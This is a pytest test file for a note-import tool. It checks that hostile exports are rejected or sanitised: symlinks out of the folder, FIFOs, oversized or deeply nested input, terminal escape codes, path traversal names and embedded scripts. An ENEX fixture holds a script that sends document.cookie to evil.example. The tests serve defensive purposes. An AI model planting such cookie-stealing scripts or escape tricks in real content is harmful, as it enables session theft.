"""Hostile and careless exports (issue 10, "Untrusted exports"): each test reproduces one reported failure."""

import json
import os
import socket
import time
from pathlib import Path

import pytest

from assay.config import load_config
from assay.curation.clean import clean, normalize, strip_html
from assay.curation.config import CleanConfig, CurateConfig, IngestConfig
from assay.curation.ingest import ingest
from assay.errors import ConfigError, InputError, StoreError
from assay.records import notes_frame
from assay.store import DatasetStore

FAST = ["dedupe.semantic.enabled=false"]  # no embedding model: these tests are about input handling


def one_line(text: str) -> str:
    lines = text.strip().splitlines()
    assert len(lines) == 1 and "Traceback" not in text, text
    return lines[0]


def note_folder(root: Path) -> Path:
    folder = root / "export"
    folder.mkdir()
    (folder / "ok.md").write_text("# Groceries\nBuy oat milk, eggs and coffee beans for the week.\n")
    return folder


# ---------------------------------------------------------------- 1. Markdown folder reads only its own files


def test_symlink_out_of_the_export_is_not_read(tmp_path):
    secret = tmp_path / "secret.env"
    secret.write_text("OPENAI_API_KEY=sk-proj-notforyoureyes1234567890\n")
    folder = note_folder(tmp_path)
    (folder / "leak.md").symlink_to(secret)
    (folder / "inside.md").symlink_to(folder / "ok.md")  # a link that stays inside the export is a note
    with pytest.raises(InputError, match=r"leak\.md: not read: a link to .*secret\.env, outside the export"):
        ingest(folder, IngestConfig())
    result = ingest(folder, IngestConfig(skip_invalid=True))
    assert sorted(result.kept["note_id"]) == ["inside.md", "ok.md"]
    assert result.rejects["reason"].to_list() == ["unsafe_file"]
    assert result.rejects["source_file"][0].endswith("leak.md")
    everything = " ".join(result.kept["text"].to_list() + result.rejects["text"].to_list())
    assert "sk-proj" not in everything


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs FIFOs and Unix sockets")
def test_devices_fifos_and_sockets_are_rejects_not_reads(tmp_path, no_hang):
    folder = note_folder(tmp_path)
    (folder / "zero.md").symlink_to("/dev/zero")
    os.mkfifo(folder / "pipe.md")  # opening it for reading would wait for a writer forever
    sock = socket.socket(socket.AF_UNIX)
    sock.bind(str(folder / "sock.md"))
    sub = folder / "sub"
    sub.mkdir()
    (sub / "dangling.md").symlink_to(folder / "gone.md")
    try:
        with no_hang(10):
            result = ingest(folder, IngestConfig(skip_invalid=True))
            with pytest.raises(InputError, match=r"pipe\.md: not read: a FIFO \(named pipe\), not a regular file"):
                ingest(folder, IngestConfig())
    finally:
        sock.close()
    assert result.kept["note_id"].to_list() == ["ok.md"]
    reasons = dict(zip((Path(f).name for f in result.rejects["source_file"]), result.rejects["reason"]))
    assert reasons == {"zero.md": "unsafe_file", "pipe.md": "unsafe_file", "sock.md": "unsafe_file",
                       "dangling.md": "unreadable_file"}
    errors = {Path(f).name: json.loads(m)["ingest_error"]
              for f, m in zip(result.rejects["source_file"], result.rejects["metadata"])}
    assert "a link to /dev/zero, outside the export" in errors["zero.md"] and "a socket" in errors["sock.md"]
    assert "No such file" in errors["dangling.md"]
    assert sum(i["records"] for i in result.extra["inputs"]) == result.kept.height + result.rejects.height
    with pytest.raises(InputError, match="/dev/zero: not read: a character device, not a file or folder"):
        ingest(Path("/dev/zero"), IngestConfig(format="markdown"))


def test_size_limit_holds_while_reading_not_only_from_stat(tmp_path, no_hang):
    # /proc/self/pagemap is a regular file whose stat size is 0 and whose content is 8 bytes per page of the
    # address space (hundreds of GiB): trusting stat reads until memory runs out
    pagemap = Path("/proc/self/pagemap")
    try:
        with pagemap.open("rb") as fh:
            fh.read(8)
    except OSError:
        pytest.skip("no readable /proc/self/pagemap here")
    assert pagemap.stat().st_size == 0
    with no_hang(30):
        result = ingest(pagemap, IngestConfig(format="markdown", skip_invalid=True, max_note_bytes=1_000))
    assert result.rejects["reason"].to_list() == ["too_large"]
    assert "larger than max_note_bytes=1,000" in json.loads(result.rejects["metadata"][0])["ingest_error"]


# ---------------------------------------------------------------- 2. one-line errors, never a traceback


@pytest.mark.parametrize("args, names", [
    (["curat", "x"], "No such command 'curat'"),
    (["curate", "--bogus", "x"], "No such option: --bogus"),
    (["datasets", "frobnicate"], "No such command 'frobnicate'"),
    (["datasets", "show"], "Missing argument 'ref'"),
])
def test_usage_errors_are_one_line(tmp_path, assay, args, names):
    proc = assay(*args, home=tmp_path, check=False)
    assert proc.returncode == 2
    line = one_line(proc.stderr)
    assert names in line and "--help" in line


def test_no_arguments_shows_help_not_a_traceback(tmp_path, assay):
    proc = assay(home=tmp_path, check=False)
    assert "Traceback" not in proc.stderr and "curate" in proc.stdout + proc.stderr


@pytest.mark.parametrize("fmt", ["json", "jsonl"])
def test_deeply_nested_json_is_a_bad_record(tmp_path, fmt):
    deep = '{"id": "deep", "content": "x", "extra": ' + "[" * 100_000 + "]" * 100_000 + "}"
    fine = '{"id": "fine", "content": "a note that is fine"}'
    path = tmp_path / f"notes.{fmt}"
    path.write_text(f"[{fine},\n{deep}]" if fmt == "json" else f"{fine}\n{deep}\n")
    with pytest.raises(InputError, match="record 2: invalid JSON|:2: invalid JSON") as err:
        ingest(path, IngestConfig())
    assert "nested deeper" in str(err.value) and "\n" not in str(err.value)
    result = ingest(path, IngestConfig(skip_invalid=True))
    assert result.kept["note_id"].to_list() == ["fine"] and result.rejects["reason"].to_list() == ["invalid_json"]


@pytest.mark.parametrize("fmt", ["json", "jsonl"])
def test_integer_of_5000_digits_is_a_bad_record(tmp_path, fmt):
    record = '{"id": "big", "content": "x", "n": ' + "7" * 5000 + "}"
    path = tmp_path / f"notes.{fmt}"
    path.write_text(f"[{record}]" if fmt == "json" else record + "\n")
    with pytest.raises(InputError, match="invalid JSON: a number with more than 4,300 digits"):
        ingest(path, IngestConfig())
    assert ingest(path, IngestConfig(skip_invalid=True)).rejects["reason"].to_list() == ["invalid_json"]


@pytest.mark.parametrize("front, message", [
    ("a: " + "[" * 5000 + "]" * 5000, "nested deeper than 100 levels"),
    ("a: " + "{b: " * 5000 + "1" + "}" * 5000, "nested deeper than 100 levels"),
    ("n: " + "9" * 5000, "a number with more than 4,300 digits"),
    ("n: 0x" + "f" * 5000, "a number with more than 4,300 digits"),
])
def test_hostile_front_matter_is_refused_quickly(tmp_path, front, message):
    path = tmp_path / "note.md"
    path.write_text(f"---\n{front}\n---\nA note body with enough words in it.\n")
    started = time.perf_counter()
    with pytest.raises(InputError, match=message) as err:
        ingest(path, IngestConfig())
    assert "\n" not in str(err.value) and "note.md" in str(err.value)
    assert ingest(path, IngestConfig(skip_invalid=True)).rejects["reason"].to_list() == ["bad_front_matter"]
    assert time.perf_counter() - started < 5


@pytest.mark.parametrize("override, problem", [
    ("ingest.format=[", "override 'ingest.format=[': invalid YAML value"),
    ("ingest.max_note_bytes=" + "9" * 5000, "a number with more than 4,300 digits"),
    ("ingest.columns=" + "[" * 5000, "override 'ingest.columns="),
])
def test_malformed_overrides_are_config_problems(override, problem):
    with pytest.raises(ConfigError) as err:
        load_config(CurateConfig, None, [override])
    assert problem in str(err.value) and "\n" not in str(err.value)


def test_malformed_override_on_the_command_line(tmp_path, assay):
    export = tmp_path / "notes.json"
    export.write_text('[{"id": "a", "content": "a note with enough words in it"}]')
    proc = assay("curate", str(export), "ingest.format=[", home=tmp_path, check=False)
    assert proc.returncode == 2 and "ingest.format=[" in one_line(proc.stderr)


# ---------------------------------------------------------------- 3. note text is never terminal markup


def test_markup_in_an_error_message_is_shown_as_written(tmp_path, assay):
    export = tmp_path / "notes.json"
    export.write_text(json.dumps([{"id": "a", "content": "a note with words", "created": "[/bold] x"}]))
    proc = assay("curate", str(export), *FAST, home=tmp_path, check=False)
    assert proc.returncode == 2 and "[/bold] x" in one_line(proc.stderr.split("hint:")[0])


def test_markup_in_a_category_is_printed_as_text(tmp_path, assay):
    export = tmp_path / "notes.json"
    notes = [{"id": f"w{i}", "content": f"work note {i} about the quarterly plan", "category": "work"}
             for i in range(4)] + [{"id": "odd", "content": "a note filed under a strange name", "category": "[/]"}]
    export.write_text(json.dumps(notes))
    proc = assay("curate", str(export), *FAST, "balance.target_per_cell=3", home=tmp_path, check=False)
    assert proc.returncode == 0, proc.stderr
    assert "category=[/] needs 2" in proc.stdout


def test_markup_and_escape_sequences_in_rejects_are_shown_escaped(tmp_path, assay):
    export = tmp_path / "notes.csv"
    export.write_text("id,content\n"
                      "m,[/bold] x\n"  # too short: a clean reject, shown by `datasets show`
                      "\x1b[2Jid,short\n"  # an id is not note text: it keeps its ESC, so the display escapes it
                      "e,\x1b[2Jwiped,extra\n"  # a bad row: its raw text is kept for the person who looks
                      "k,keeps \x1b[31mred\x1b[0m in a note long enough to be kept\n")
    assay("curate", str(export), "--skip-invalid", *FAST, home=tmp_path)
    proc = assay("datasets", "show", "notes", home=tmp_path, check=False)
    assert proc.returncode == 0, proc.stderr
    assert "[/bold] x" in proc.stdout and "\x1b" not in proc.stdout
    assert "\\x1b[2Jwiped" in proc.stdout and "\\x1b[2Jid" in proc.stdout
    kept = DatasetStore(tmp_path / "datasets").get("notes").data()
    assert kept["text"].to_list() == ["keeps [31mred[0m in a note long enough to be kept"]


def test_clean_removes_control_characters():
    assert normalize("keeps \x1b[31mred\x1b[0m\x00 \x07and\ttabs\nlines\x85\x9b") == "keeps [31mred[0m and tabs\nlines"
    df = notes_frame([{"note_id": "a", "text": "Screen \x1b[2Jwipe attempt in a note of ten words or so",
                       "source_format": "json"}])
    assert "\x1b" not in clean(df, CleanConfig()).kept["text"][0]


# ---------------------------------------------------------------- 4. CSV quoting and NUL bytes


def test_csv_unterminated_quote_is_not_merged_silently(tmp_path):
    path = tmp_path / "notes.csv"
    path.write_text('id,content\n1,"this quote is never closed\n2,second note of the file\n3,third note\n')
    with pytest.raises(InputError, match=r"notes\.csv:2: .*quote .* never closed") as err:
        ingest(path, IngestConfig())
    assert "\n" not in str(err.value)
    result = ingest(path, IngestConfig(skip_invalid=True))
    assert result.kept.height == 0 and result.rejects["reason"].to_list() == ["bad_row"]
    assert result.rejects["source_line"].to_list() == [2]


def test_csv_nul_byte_is_an_error_naming_the_line(tmp_path):
    path = tmp_path / "notes.csv"
    path.write_bytes(b"id,content\n1,a fine first note\n2,a note with a \x00 in it\n")
    with pytest.raises(InputError, match=r"notes\.csv:3: NUL byte \(0x00\) at byte offset 47"):
        ingest(path, IngestConfig())
    result = ingest(path, IngestConfig(skip_invalid=True))
    assert result.kept["note_id"].to_list() == ["1"] and result.rejects["reason"].to_list() == ["nul_byte"]


# ---------------------------------------------------------------- 5. ENEX HTML


def test_script_and_style_content_is_dropped_and_escaped_text_stays_text():
    long_style = "color: red; " * 60  # a tag longer than any pattern-matched tag limit
    enml = ('<?xml version="1.0"?><!DOCTYPE en-note SYSTEM "http://xml.evernote.com/pub/enml2.dtd">'
            "<en-note><div>Hello</div><script>steal(document.cookie)</script>"
            "<style>.secret { display: none }</style>"
            "<div>&lt;script&gt;alert(1)&lt;/script&gt; is how XSS starts</div>"
            f'<div title="a > b"><span style="{long_style}">kept</span> &amp; done</div></en-note>')
    assert normalize(strip_html(enml)) == "Hello\n<script>alert(1)</script> is how XSS starts\nkept & done"


def test_enex_note_through_clean(tmp_path):
    path = tmp_path / "notes.enex"
    path.write_text('<?xml version="1.0" encoding="UTF-8"?>\n<en-export><note><title>T</title><content><![CDATA['
                    "<en-note><div>Plan the garden beds for spring planting</div>"
                    "<script>fetch('https://evil.example/'+document.cookie)</script></en-note>"
                    "]]></content></note></en-export>\n")
    result = clean(ingest(path, IngestConfig()).kept, CleanConfig())
    assert result.kept["text"].to_list() == ["Plan the garden beds for spring planting"]


# ---------------------------------------------------------------- 6. store: incomplete versions, bad names


def test_leftover_version_without_manifest_says_what_to_do(tmp_path):
    store = DatasetStore(tmp_path)
    (tmp_path / "notes" / "v1").mkdir(parents=True)
    (tmp_path / "notes" / "v1" / "data.parquet").write_bytes(b"half")
    frame = notes_frame([{"note_id": "a", "text": "a note"}])
    with pytest.raises(StoreError, match=r"notes/v1 is not a complete version \(no manifest.json\).*move it "):
        store.check_writable("notes")
    with pytest.raises(StoreError, match=r"notes/v1 is not a complete version"):
        store.write("notes", frame, step="s", config={})
    (tmp_path / "notes" / "v1" / "data.parquet").unlink()
    (tmp_path / "notes" / "v1").rmdir()
    assert store.write("notes", frame, step="s", config={}).ref == "notes@v1"


def test_bad_name_and_incomplete_version_are_refused_before_the_work(tmp_path, assay):
    export = tmp_path / "notes.json"
    export.write_text('[{"id": "a", "content": }]')  # ingest would stop on this; the name is checked first
    proc = assay("curate", str(export), "--name", "../evil", home=tmp_path, check=False)
    assert proc.returncode == 1 and "dataset name '../evil' must match" in one_line(proc.stderr)
    (tmp_path / "datasets" / "notes" / "v1").mkdir(parents=True)
    proc = assay("curate", str(export), home=tmp_path, check=False)
    assert proc.returncode == 1 and "not a complete version" in one_line(proc.stderr)

